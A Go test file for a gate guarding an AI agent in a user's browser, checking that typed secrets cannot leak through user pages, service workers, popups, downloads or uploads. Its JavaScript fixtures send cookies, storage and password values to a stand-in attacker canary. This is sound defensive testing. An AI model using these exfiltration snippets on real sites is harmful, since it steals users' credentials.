@@ -1,0 +1,752 @@
+package main
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/cdp"
+	"github.com/chromedp/cdproto/serviceworker"
+	"github.com/chromedp/chromedp"
+
+	"github.com/browsergate/browsergate/evidence"
+	"github.com/browsergate/browsergate/examples/testkit"
+)
+
+// The second attack review of the live user context (issue 31): paths a
+// typed secret or a session page's request could take out through the
+// user's own, unguarded pages and workers. Each runs a user's Chromium, a
+// live session in its default context and the fixture's canary on
+// 127.0.0.2, outside the scope.
+
+// h7SecretManifest is the e2e manifest, live in the user's browser at
+// endpoint, with APP_PASSWORD bound to 127.0.0.1.
+func h7SecretManifest(endpoint string) string {
+	return fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint)) + `[secrets.APP_PASSWORD]
+env = "BROWSERGATE_E2E_SECRET"
+domains = ["127.0.0.1"]
+`
+}
+
+// registerWorker is a page that registers /sw.js and says "ready" in #s
+// once it is active.
+const registerWorker = `<title>register</title><p id=s>registering</p><script>
+navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => { document.getElementById('s').textContent = 'ready'; });
+</script>`
+
+// workerReady waits until the user's page of registerWorker says ready.
+func workerReady(t *testing.T, user context.Context) {
+	t.Helper()
+	testkit.Eventually(t, func() string {
+		s, err := chromedp.Run(user, chromedp.Evaluate[string](`document.getElementById('s').textContent`))
+		if err != nil || s != "ready" {
+			return fmt.Sprintf("the user's service worker is not ready (%q, %v)", s, err)
+		}
+		return ""
+	})
+}
+
+// h7Manifest3 is h7SecretManifest with 127.0.0.3 in the scope too
+// (outside the secret's domains) and command with its [browser.files]
+// directory key = dir.
+func h7Manifest3(endpoint, command, key, dir string) string {
+	return strings.Replace(fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint)),
+		`allowed_domains = ["127.0.0.1"]
+allow_private_cidrs = ["127.0.0.1/32"]`, `allowed_domains = ["127.0.0.1", "127.0.0.3"]
+allow_private_cidrs = ["127.0.0.1/32", "127.0.0.3/32"]`, 1) + fmt.Sprintf(`[browser.commands.%s]
+[browser.files]
+%s = %q
+[secrets.APP_PASSWORD]
+env = "BROWSERGATE_E2E_SECRET"
+domains = ["127.0.0.1"]
+`, command, key, dir)
+}
+
+// userRegistersAndLeaves has the user open site's /register
+// (registerWorker) in a tab of the user's browser at endpoint, wait for
+// the worker, and close the tab: the worker stays registered, and runs on
+// a while.
+func userRegistersAndLeaves(t *testing.T, endpoint, site string) {
+	t.Helper()
+	user, cancelUser := chromedp.NewContext(usersBrowser(t, endpoint))
+	defer cancelUser()
+	if err := chromedp.Do(user, chromedp.Navigate(site+"/register")); err != nil {
+		t.Fatal(err)
+	}
+	workerReady(t, user)
+}
+
+// workerSite serves a site on 127.0.0.1 of /sw.js (sw), /register
+// (registerWorker, then register) and /form (form), has the user register
+// the worker and leave (userRegistersAndLeaves), and returns the site.
+func workerSite(t *testing.T, endpoint, sw, register, form string) string {
+	t.Helper()
+	site, stop, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		page, kind := map[string]string{"/sw.js": sw, "/register": registerWorker + register, "/form": form}[r.URL.Path], "text/html"
+		if page == "" {
+			http.NotFound(w, r)
+			return
+		}
+		if r.URL.Path == "/sw.js" {
+			kind = "text/javascript"
+		}
+		w.Header().Set("Content-Type", kind)
+		fmt.Fprint(w, page)
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop)
+	userRegistersAndLeaves(t, endpoint, site)
+	return site
+}
+
+// startH7 starts a user's Chromium and a session live in it with
+// h7SecretManifest, and returns the browser's endpoint.
+func startH7(t *testing.T) (*fixture, string) {
+	t.Helper()
+	port, _ := startChromium(t)
+	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
+	return startWith(t, h7SecretManifest(endpoint)), endpoint
+}
+
+// canaryHasSecret fails the test when the canary saw a request, an
+// upgrade or the secret's value.
+func (f *fixture) canaryHasSecret(t *testing.T, what string) {
+	t.Helper()
+	f.canarySees(t, what, false)
+}
+
+// canarySees fails the test when the canary saw the secret's value (its
+// first half, in any case, raw or percent-encoded) or, unless the user's
+// own pages may reach it (users), any request or upgrade.
+func (f *fixture) canarySees(t *testing.T, what string, users bool) {
+	t.Helper()
+	time.Sleep(2 * time.Second)
+	seen := strings.ToLower(strings.Join(f.net.Seen(), "; "))
+	if !users && (f.net.Hits() != 0 || f.net.Upgrades() != 0) {
+		t.Errorf("%s: the canary saw %s", what, f.net)
+	}
+	if strings.Contains(seen, strings.ToLower(secretValue[:len(secretValue)/2])) {
+		t.Errorf("%s: the canary saw the secret's value: %s", what, f.net)
+	}
+	if f.net.Conns() != 0 {
+		t.Logf("%s: the canary saw %d connection(s) (requests %d)", what, f.net.Conns(), f.net.Hits())
+	}
+}
+
+// TestH7SecretBesideAUsersPageOfTheSite: cookies are a host's, not an
+// origin's (no port, no scheme), and a page of one site frames another
+// origin of it with first-party storage. A user's tab on the field's host
+// at another port reads the cookie the field's page writes the value
+// into, and sends it to the canary: type_text must be refused while it
+// is open, naming it.
+func TestH7SecretBesideAUsersPageOfTheSite(t *testing.T) {
+	t.Parallel()
+	f, endpoint := startH7(t)
+	site, _ := serveLogged(t, map[string]string{
+		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>
+document.getElementById('pw').addEventListener('input', e => { document.cookie = 'pw=' + encodeURIComponent(e.target.value) + '; path=/'; });
+</script>`,
+	})
+	other, _ := serveLogged(t, map[string]string{
+		"/reader": fmt.Sprintf(`<title>reader</title>the user's page of the site at another port<script>
+let sent = '';
+setInterval(() => { const c = document.cookie; if (c.includes('pw=') && c !== sent) { sent = c; fetch(%q + '?' + c, {mode: 'no-cors'}).catch(() => {}); } }, 100);
+</script>`, f.canaryTo+"/cookie"),
+	})
+	usersTab(t, endpoint, other+"/reader")
+	readerID := f.waitListed(t, "/reader")
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
+	out, refused := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+	t.Logf("type_text beside the user's page of the site:\n%s", out)
+	if !refused || !strings.Contains(out, "DENIED at secrets") || !strings.Contains(out, "tab "+readerID) {
+		t.Errorf("type_text was not refused naming the user's tab %s of the field's site", readerID)
+	}
+	f.canaryHasSecret(t, "a user's tab of the field's site")
+}
+
+// TestH7SessionPageReachesTheUsersServiceWorker: a session page loses
+// navigator.serviceWorker (user_context.js), but a frame it makes has a
+// window of its own. A worker the user's browsing registered on the
+// site (the user's tab then closed) is told by the session's page, through
+// its own navigator, a blank frame's and a blank popup's, to fetch the
+// canary; with a secret typed, the value too. Its own navigator has no
+// serviceWorker (without user_context.js's getter the worker took the
+// value to the canary); a blank document's container refuses
+// (InvalidStateError, Chromium 156).
+func TestH7SessionPageReachesTheUsersServiceWorker(t *testing.T) {
+	t.Parallel()
+	f, endpoint := startH7(t)
+	site := workerSite(t, endpoint, fmt.Sprintf(`self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
+self.addEventListener('message', e => { e.waitUntil(fetch(%q + '?v=' + encodeURIComponent(e.data), {mode: 'no-cors'}).catch(() => {})); });`, f.canaryTo+"/sw"), "", `<title>form</title><input type=password id=pw aria-label=Password><p id=r>-</p><script>
+const say = m => document.getElementById('r').append(' ' + m);
+function tell(v) {
+  const fr = document.createElement('iframe'); document.body.append(fr);
+  for (const [how, w] of [['self', window], ['frame', fr.contentWindow], ['popup', window.open('')]]) {
+    try {
+      const c = w && w.navigator.serviceWorker;
+      if (!c) { say(how + ':none'); continue; }
+      c.getRegistration('/').then(r => { r.active.postMessage(how + ':' + v); say(how + ':posted'); }, e => say(how + ':' + e));
+    } catch (e) { say(how + ':' + e); }
+  }
+}
+tell('on-load');
+document.getElementById('pw').addEventListener('input', e => tell(e.target.value));
+</script>`)
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
+	time.Sleep(time.Second)
+	t.Logf("snapshot: %s", f.mustAllow(t, "e2e.snapshot", nil))
+	f.canaryHasSecret(t, "the session's page telling the user's worker on load")
+	out, _ := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+	t.Logf("type_text: %s", out)
+	f.canaryHasSecret(t, "the session's page telling the user's worker the secret")
+	t.Logf("snapshot: %s", f.mustAllow(t, "e2e.snapshot", nil))
+}
+
+// TestH7SecretBesideAUsersFrameOfTheSite: a user's tab of another site
+// (127.0.0.4, outside the scope) frames the field's origin; the frame
+// listens for the value the field's page hands on (a cookie with
+// SameSite=None and Secure, as a loopback page is a secure context,
+// localStorage, BroadcastChannel) and sends what it gets to the canary.
+// Blocked by Chromium, not by the gate: the frame's storage and
+// BroadcastChannel are partitioned by its top-level site, and its cookies
+// are third-party. The test fails if the user's browser ever shares them
+// (a profile allowing third-party cookies, partitioning turned off), and
+// the gate would then have to count the user's frames (OOPIF targets) of
+// the field's site too.
+func TestH7SecretBesideAUsersFrameOfTheSite(t *testing.T) {
+	t.Parallel()
+	f, endpoint := startH7(t)
+	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
+	site, _ := serveLogged(t, map[string]string{
+		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>
+document.getElementById('pw').addEventListener('input', e => {
+  document.cookie = 'pw=' + encodeURIComponent(e.target.value) + '; path=/; SameSite=None; Secure';
+  localStorage.setItem('pw', e.target.value);
+  new BroadcastChannel('pw').postMessage(e.target.value);
+});
+</script>`,
+		"/frame": fmt.Sprintf(`<title>frame</title><script>
+fetch(%q, {mode: 'no-cors'}).catch(() => {});
+let sent = '';
+const send = (how, v) => fetch(%q + '?' + how + '=' + encodeURIComponent(v), {mode: 'no-cors'}).catch(() => {});
+new BroadcastChannel('pw').onmessage = m => send('bc', m.data);
+setInterval(() => {
+  const c = document.cookie + '|' + (localStorage.getItem('pw') || '');
+  if (c !== '|' && c !== sent) { sent = c; send('store', c); }
+}, 100);
+</script>`, spy+"/loaded", f.canaryTo+"/frame"),
+	})
+	other, _ := serveLoggedOn(t, "127.0.0.4:0", map[string]string{
+		"/embed": fmt.Sprintf(`<title>embed</title><iframe src=%q></iframe>`, site+"/frame"),
+	})
+	usersTab(t, endpoint, other+"/embed")
+	// The control: the user's frame runs, and reaches the network.
+	testkit.Eventually(t, func() string {
+		if spyLog.count("/loaded") == 0 {
+			return "the user's frame of the site has not run"
+		}
+		return ""
+	})
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
+	out, refused := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+	t.Logf("type_text beside the user's frame of the site (refused %v):\n%s", refused, out)
+	f.canaryHasSecret(t, "a user's frame of the field's site")
+}
+
+// TestH7PageDownloadCarriesTheSecret: after the secret is typed, the
+// field's page starts downloads by itself whose URLs carry the value: to
+// a host in the scope but outside the secret's domains (127.0.0.3), to
+// the canary outside the scope, and by a form with a download response.
+// Neither the other host nor the canary sees the value, and the replies
+// do not show it to the agent in any encoding the URLs carry it in.
+func TestH7PageDownloadCarriesTheSecret(t *testing.T) {
+	t.Parallel()
+	port, _ := startChromium(t)
+	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
+	down := t.TempDir()
+	manifest := h7Manifest3(endpoint, "download", "download_dir", down)
+	f := startWith(t, manifest)
+	var mu sync.Mutex
+	var other []string
+	xhost, stopX, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		other = append(other, r.URL.String())
+		mu.Unlock()
+		w.Header().Set("Content-Disposition", `attachment; filename="x.txt"`)
+		fmt.Fprint(w, "x")
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stopX)
+	site, stopSite, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/redir" {
+			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
+			return
+		}
+		if r.URL.Path == "/file" {
+			w.Header().Set("Content-Disposition", `attachment; filename="own.txt"`)
+			fmt.Fprint(w, "own")
+			return
+		}
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprintf(w, `<title>form</title><input type=password id=pw aria-label=Password>
+<form id=f method=GET target=_self><input name=pw id=h></form><script>
+const dl = (href, name) => { const a = document.createElement('a'); a.href = href; a.download = name; document.body.append(a); a.click(); };
+let done = false;
+document.getElementById('pw').addEventListener('input', e => {
+  const v = e.target.value;
+  if (done || v.length < 10) return;
+  done = true;
+  const steps = [
+    () => dl('/redir?to=' + encodeURIComponent(%[1]q + '/redir-dl?pw=' + encodeURIComponent(v)), 'r.txt'),
+    () => dl('/redir?to=' + encodeURIComponent(%[2]q + '/redir-dl?pw=' + encodeURIComponent(v)), 'r2.txt'),
+    () => dl('/redir?to=' + encodeURIComponent(%[1]q + '/redir-dl?pw=' + encodeURIComponent(v)), 'r3.txt'),
+    () => dl(%[1]q + '/dl?pw=' + encodeURIComponent(v), 'a.txt'),
+    () => dl(%[2]q + '/dl?pw=' + encodeURIComponent(v), 'b.txt'),
+    () => { const f = document.getElementById('f'); f.action = %[1]q + '/form'; document.getElementById('h').value = v; f.submit(); },
+  ];
+  // The first during the type_text (its acting guard stops it), the
+  // others once the call has returned, between calls.
+  // The first during the type_text (its acting guard stops it); on
+  // ?later=N step N, once the call has returned, between calls (each
+  // takes the tab away, to a download's navigation or a refusal).
+  const later = Number(new URLSearchParams(location.search).get('later'));
+  if (!later) steps[0]();
+  else setTimeout(steps[later], 2500);
+});
+</script>`, xhost, f.canaryTo)
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stopSite)
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
+	out, _ := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+	t.Logf("type_text:\n%s", out)
+	// The refusal names a URL that carries the value encoded twice (a URL
+	// in the site's redirect parameter): the agent gets none of it.
+	if twice := url.QueryEscape(url.QueryEscape(secretValue)); strings.Contains(out, twice[len(twice)/2:]) {
+		t.Errorf("the reply shows the value's second half, percent-encoded twice:\n%s", out)
+	}
+	for n := 1; n <= 5; n++ {
+		f.mustAllow(t, "e2e.navigate", map[string]any{"url": fmt.Sprintf("%s/form?later=%d", site, n)})
+		out, _ = f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+		time.Sleep(4 * time.Second)
+		later, _ := f.call(t, "e2e.snapshot", nil)
+		t.Logf("step %d: type_text:\n%s\nsnapshot:\n%s", n, out, later)
+		if twice := url.QueryEscape(url.QueryEscape(secretValue)); strings.Contains(later, twice[len(twice)/2:]) {
+			t.Errorf("the snapshot shows the value's second half, percent-encoded twice:\n%s", later)
+		}
+	}
+	f.canaryHasSecret(t, "the page's downloads after the secret")
+	t.Logf("list_tabs: %s", f.mustAllow(t, "e2e.list_tabs", nil))
+	mu.Lock()
+	defer mu.Unlock()
+	for _, u := range other {
+		if strings.Contains(u, "pw=") {
+			t.Errorf("the host outside the secret's domains saw %s", u)
+		}
+	}
+	t.Logf("127.0.0.3 saw %q", other)
+}
+
+// TestH7DisownedOpenerComesBackByName: a user's tab outside the scope
+// (127.0.0.4) opens the site's form as a named popup, which disowns its
+// opener (window.opener = null): of different origins with the link cut,
+// the two are not taken for one group, so the popup is adopted and the
+// secret typed. But disowning keeps the two in one browsing-context group
+// (only noopener makes a new one): once the opener moves itself to the
+// site's origin it finds the popup by name and reads the field. The
+// secret must not be typed while such a page is there.
+func TestH7DisownedOpenerComesBackByName(t *testing.T) {
+	t.Parallel()
+	f, endpoint := startH7(t)
+	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
+	site, _ := serveLogged(t, map[string]string{
+		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>window.opener = null</script>`,
+		"/evil": fmt.Sprintf(`<title>evil</title><script>
+const w = window.open('', 'victim');
+try {
+  const v = w.document.getElementById('pw').value;
+  fetch(%q + '?v=' + encodeURIComponent(v), {mode: 'no-cors'}).catch(() => {});
+} catch (e) { fetch(%q, {mode: 'no-cors'}).catch(() => {}); }
+</script>`, f.canaryTo+"/by-name", spy+"/not-found"),
+	})
+	elsewhere, _ := serveLoggedOn(t, "127.0.0.4:0", map[string]string{
+		"/opener": fmt.Sprintf(`<title>elsewhere</title><button id=o onclick="window.open('%s/form', 'victim')">open</button>`, site),
+	})
+	user := usersBrowser(t, endpoint)
+	if err := chromedp.Do(user, chromedp.Navigate(elsewhere+"/opener"), chromedp.Click("#o")); err != nil {
+		t.Fatal(err)
+	}
+	form := f.waitListed(t, "/form")
+	out, refused := f.call(t, "e2e.switch_tab", map[string]any{"tab": form})
+	t.Logf("switch_tab (refused %v):\n%s", refused, out)
+	if !refused {
+		out, refused = f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+		t.Logf("type_text (refused %v):\n%s", refused, out)
+	}
+	// The opener moves itself to the site (the test has its script do it,
+	// as a timer of its own could: a navigation the page starts keeps its
+	// group, where one the browser starts may not).
+	if _, err := chromedp.Run(user, chromedp.Evaluate[any](fmt.Sprintf(`location.href = %q`, site+"/evil"))); err != nil {
+		t.Fatal(err)
+	}
+	time.Sleep(time.Second)
+	if !refused || !strings.Contains(out, "DENIED at secrets") || !strings.Contains(out, "linked to the tab by an opener") {
+		t.Errorf("the secret was typed with the popup's disowned opener open")
+	}
+	// The user's page (unguarded) reaches the canary, with no value.
+	if n := spyLog.count("/not-found"); n != 0 {
+		t.Errorf("the opener did not find the popup by name (%d): the test shows nothing", n)
+	}
+	f.canarySees(t, "the disowned opener, back by name", true)
+}
+
+// TestH7LivePageDownloadsDecidedByCedar: in the user's own browser, the
+// downloads a page starts by itself (a link it clicks, a data: URL, a
+// blob) are decided by Cedar as in a browser of browsergate's: in the
+// session's own tab, and in a user's tab whose adoption reload starts
+// them (the page downloads only when reloaded). A policy forbidding the
+// downloads of /auto refuses all six; none is saved, in download_dir,
+// the staging directory or the user's download folder.
+func TestH7LivePageDownloadsDecidedByCedar(t *testing.T) {
+	t.Parallel()
+	port, _ := startChromium(t)
+	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
+	dir := t.TempDir()
+	down, tmp, xdg := filepath.Join(dir, "downloads"), filepath.Join(dir, "tmp"), filepath.Join(dir, "xdg")
+	for _, d := range []string{down, tmp, xdg} {
+		if err := os.Mkdir(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	policies := testkit.CopyPolicies(t)
+	testkit.WriteFile(t, policies, "test-downloads.cedar", `@id("no-downloads-from-auto")
+forbid (principal, action == Web::Action::"browse", resource)
+when { resource.command == "download" && resource.page_state.url like "*/auto*" };
+`)
+	f := startClientEnv(t, fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint))+fmt.Sprintf(`[browser.commands.download]
+[browser.files]
+download_dir = %q
+`, down), nil, []string{"TMPDIR=" + tmp, "XDG_DOWNLOAD_DIR=" + xdg}, "--policies", policies)
+	mux := http.NewServeMux()
+	mux.HandleFunc("/auto", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, autoDownloads("auto")) })
+	mux.HandleFunc("/auto-on-reload", func(w http.ResponseWriter, r *http.Request) {
+		// autoDownloads("reload"), only when reloaded.
+		page := strings.Replace(autoDownloads("reload"), "<script>",
+			"<script>if (performance.getEntriesByType('navigation')[0].type === 'reload') {", 1)
+		fmt.Fprint(w, strings.Replace(page, "</script>", "}</script>", 1))
+	})
+	mux.HandleFunc("/file", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/octet-stream")
+		w.Header().Set("Content-Disposition", `attachment; filename="`+r.URL.Query().Get("n")+`"`)
+		fmt.Fprint(w, "bytes")
+	})
+	site, stop, err := serveOn("127.0.0.1:0", mux)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop)
+	const refused = "refused at cedar (policy no-downloads-from-auto)"
+	out := f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/auto"})
+	f.untilReplied(t, out, `("auto-link.txt") `+refused, `("auto-data.txt") `+refused, `("auto-blob.txt") `+refused)
+	usersTab(t, endpoint, site+"/auto-on-reload")
+	tab := f.waitListed(t, "/auto-on-reload")
+	out = f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": tab})
+	f.untilReplied(t, out, `("reload-link.txt") `+refused, `("reload-data.txt") `+refused, `("reload-blob.txt") `+refused)
+	testkit.Eventually(t, func() string {
+		if left := staged(t, tmp); len(left) > 0 {
+			return fmt.Sprintf("refused downloads left in the staging directory: %q", left)
+		}
+		return ""
+	})
+	for _, d := range []string{down, xdg} {
+		if names := dirNames(t, d); len(names) > 0 {
+			t.Errorf("refused downloads were saved in %s: %q", d, names)
+		}
+	}
+	f.cs.Close()
+	recs, _ := pageDownloadRecords(t, f.evidence)
+	if len(recs) != 6 {
+		t.Errorf("%d page_download records, want 6", len(recs))
+	}
+	for _, e := range recs {
+		if e.Decision.Allowed || e.Decision.Stage != evidence.StageCedar {
+			t.Errorf("record %d of %v: %+v", e.Seq, e.Files, e.Decision)
+		}
+	}
+}
+
+// TestH7UsersServiceWorkerAndWindowsOutOfTheSessionsReach: a service
+// worker the user's browsing registered on the site answers every
+// navigation and frame with a document of its own and tells a server of
+// its own; the user's tab of another site is named "uw". The session's own
+// tab loads the site, with a frame of it, and from it a popup of it: each
+// is fetched by the guard, not the worker (the spy hears nothing and the
+// documents are the site's). A link of the session's page targets a
+// window named "uw": the user's is in another browsing-context group, so
+// the link opens a new popup of the session's, and the user's window
+// stays where it was.
+func TestH7UsersServiceWorkerAndWindowsOutOfTheSessionsReach(t *testing.T) {
+	t.Parallel()
+	f, endpoint := startH7(t)
+	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
+	site, stopSite, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/sw.js":
+			w.Header().Set("Content-Type", "text/javascript")
+			fmt.Fprintf(w, `self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
+self.addEventListener('fetch', e => {
+  if (e.request.destination !== 'document' && e.request.destination !== 'iframe') return;
+  fetch(%q, {mode: 'no-cors'}).catch(() => {});
+  e.respondWith(new Response('<title>forged</title>forged by the worker', {headers: {'Content-Type': 'text/html'}}));
+});`, spy+"/fetch-event")
+		case "/register":
+			w.Header().Set("Content-Type", "text/html")
+			fmt.Fprint(w, registerWorker)
+		case "/page":
+			w.Header().Set("Content-Type", "text/html")
+			fmt.Fprint(w, `<title>site</title><p>the site's own document</p><iframe src="/frame"></iframe>
+<a id=pop href="/popup" target=_blank>popup</a> <a id=named href="/named" target=uw>named</a>`)
+		case "/frame", "/popup", "/named":
+			w.Header().Set("Content-Type", "text/html")
+			fmt.Fprintf(w, "<title>site %s</title>the site's %s", r.URL.Path, r.URL.Path)
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stopSite)
+	elsewhere, _ := serveLoggedOn(t, "127.0.0.4:0", map[string]string{"/uw": `<title>uw</title><script>window.name = 'uw'</script>the user's window`})
+	user := usersTab(t, endpoint, site+"/register")
+	workerReady(t, user)
+	// The control: the worker does answer the user's own navigations.
+	if err := chromedp.Do(user, chromedp.Navigate(site+"/page")); err != nil {
+		t.Fatal(err)
+	}
+	if title, err := chromedp.Run(user, chromedp.Title()); err != nil || title != "forged" {
+		t.Fatalf("the worker does not answer the user's own navigation (title %q, %v): the test shows nothing", title, err)
+	}
+	if err := chromedp.Do(user, chromedp.Navigate(elsewhere+"/uw")); err != nil {
+		t.Fatal(err)
+	}
+	before := spyLog.count("/fetch-event")
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/page"})
+	snap := f.mustAllow(t, "e2e.snapshot", nil)
+	if strings.Contains(snap, "forged") || !strings.Contains(snap, "the site's own document") || !strings.Contains(snap, "the site's /frame") {
+		t.Errorf("the session's page or its frame shows the worker's document:\n%s", snap)
+	}
+	first := f.tabID(t, "e2e", "session", "/page")
+	for _, c := range []struct{ link, path string }{{"#pop", "/popup"}, {"#named", "/named"}} {
+		out := f.mustAllow(t, "e2e.click", map[string]any{"selector": c.link})
+		t.Logf("click %s:\n%s", c.link, out)
+		testkit.Eventually(t, func() string {
+			if text, _ := f.call(t, "e2e.list_tabs", nil); !strings.Contains(text, c.path) {
+				return "list_tabs does not show " + c.path + " yet:\n" + text
+			}
+			return ""
+		})
+		f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": f.tabID(t, "e2e", "session", c.path)})
+		if snap := f.mustAllow(t, "e2e.snapshot", nil); !strings.Contains(snap, "the site's "+c.path) {
+			t.Errorf("the popup of %s is not the site's document:\n%s", c.link, snap)
+		}
+		f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": first})
+	}
+	if n := spyLog.count("/fetch-event") - before; n != 0 {
+		t.Errorf("the user's service worker saw %d navigation(s) of the session's pages", n)
+	}
+	if u, err := chromedp.Run(user, chromedp.Location()); err != nil || !strings.HasPrefix(u, elsewhere) {
+		t.Errorf("the user's window named uw is at %q (%v)", u, err)
+	}
+	f.settleAndCheckCanary(t, "the session's page opening a window by the user's window's name")
+}
+
+// TestH7UploadedFileCarriesTheSecret: a file in upload_dir holds a
+// secret's value (a page's download of it saved there, or an operator's
+// file). Attaching it to a page outside the secret's domains (127.0.0.3,
+// in the scope) and sending the form there would take the value where
+// type_text may not: refused at stage secrets. Attached on the secret's
+// own site, the page reads the file and sends it to 127.0.0.3: the value
+// is held to its domains as a typed one is. 127.0.0.3 never sees it.
+func TestH7UploadedFileCarriesTheSecret(t *testing.T) {
+	t.Parallel()
+	port, _ := startChromium(t)
+	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
+	up := t.TempDir()
+	if err := os.WriteFile(filepath.Join(up, "creds.txt"), []byte("user=me\npassword="+secretValue+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	manifest := h7Manifest3(endpoint, "upload_file", "upload_dir", up)
+	// The shipped policy asks a human for every upload, who sees the
+	// file's name, size and hash, not that it holds the value: without
+	// it, as an operator may run, the gate alone must hold the value.
+	policies := testkit.CopyPolicies(t)
+	for _, name := range []string{"files.cedar", "policy-tests.json"} { // and the shipped policies' tests of it
+		if err := os.Remove(filepath.Join(policies, name)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	f := startWith(t, manifest, "--policies", policies)
+	var mu sync.Mutex
+	var got []string
+	form := `<title>upload</title><form id=f method=POST enctype=multipart/form-data action="/post"><input type=file id=file name=file><button id=send>send</button></form>`
+	other, stopX, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		got = append(got, r.URL.String()+" "+string(b))
+		mu.Unlock()
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, form)
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stopX)
+	site, _ := serveLogged(t, map[string]string{
+		"/up": fmt.Sprintf(`<title>site upload</title><input type=file id=file><script>
+document.getElementById('file').addEventListener('change', e => e.target.files[0].text().then(v =>
+  fetch(%q, {method: 'POST', body: v, mode: 'no-cors'}).catch(() => {})));
+</script>`, other+"/from-site"),
+	})
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": other + "/form"})
+	out, refused := f.call(t, "e2e.upload_file", map[string]any{"selector": "#file", "file": "creds.txt"})
+	t.Logf("upload_file on 127.0.0.3 (refused %v):\n%s", refused, out)
+	if !refused || !strings.Contains(out, "DENIED at secrets") {
+		t.Errorf("a file holding the secret was attached on a page outside its domains")
+		f.call(t, "e2e.click", map[string]any{"selector": "#send"})
+	}
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/up"})
+	out, _ = f.call(t, "e2e.upload_file", map[string]any{"selector": "#file", "file": "creds.txt"})
+	t.Logf("upload_file on the site:\n%s", out)
+	time.Sleep(2 * time.Second)
+	t.Logf("snapshot: %s", f.mustAllow(t, "e2e.list_tabs", nil))
+	mu.Lock()
+	defer mu.Unlock()
+	for _, g := range got {
+		if strings.Contains(g, secretValue[:len(secretValue)/2]) {
+			t.Errorf("127.0.0.3 got the secret's value: %q", g)
+		}
+	}
+}
+
+// TestH7PageDownloadNamedByTheSecret: after the secret is typed, the
+// page saves a blob download named by the value and holding it. The
+// agent's replies and the evidence do not show the value in the file's
+// name (the masker's runs). What a page transforms beyond the spellings
+// the masker reads (here punctuation made "_", leaving runs under six
+// characters) and the file's SHA-256 and size, which the reply gives, are
+// the page's own choice of what to show: a page that has the value can
+// always show it transformed.
+func TestH7PageDownloadNamedByTheSecret(t *testing.T) {
+	t.Parallel()
+	port, _ := startChromium(t)
+	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
+	down := t.TempDir()
+	f := startWith(t, h7Manifest3(endpoint, "download", "download_dir", down))
+	site, _ := serveLogged(t, map[string]string{
+		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>
+let done = false;
+document.getElementById('pw').addEventListener('input', e => {
+  const v = e.target.value;
+  if (done || v.length < 24) return;
+  done = true;
+  setTimeout(() => {
